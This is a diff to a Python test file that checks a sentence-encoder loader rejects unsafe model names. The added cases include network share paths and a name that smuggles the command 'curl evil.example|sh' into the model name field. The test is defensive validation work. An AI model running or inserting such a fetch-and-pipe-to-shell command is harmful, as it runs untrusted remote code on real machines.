@@ -176,8 +176,12 @@ def test_a_models_word_alone_downloads_nothing_from_strangers(monkeypatch: pytes
     monkeypatch.setattr(frozen, "_hub_answers", lambda: pytest.fail("the Hub was asked"))
     with pytest.raises(UserError, match=r"not downloaded at a model's word: .* run hf download someone/encoder\.$"):
         FrozenSentences.from_state({"name": "someone/encoder", "size": 384})(["a man"])
-    with pytest.raises(UserError, match=r"is on another machine"):
-        FrozenSentences.from_state({"name": r"\\server\share", "size": 384})(["a man"])
+    with pytest.raises(UserError) as told:
+        FrozenSentences.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
+    assert "run hf" not in str(told.value)
+    for name in (r"\\server\share", "//server/share", r"/\server\share", r"\/server\share"):
+        with pytest.raises(UserError, match=r"is on another machine"):
+            FrozenSentences.from_state({"name": name, "size": 384})(["a man"])
 
 
 def test_a_folder_without_a_model_is_told(tmp_path: Path) -> None:
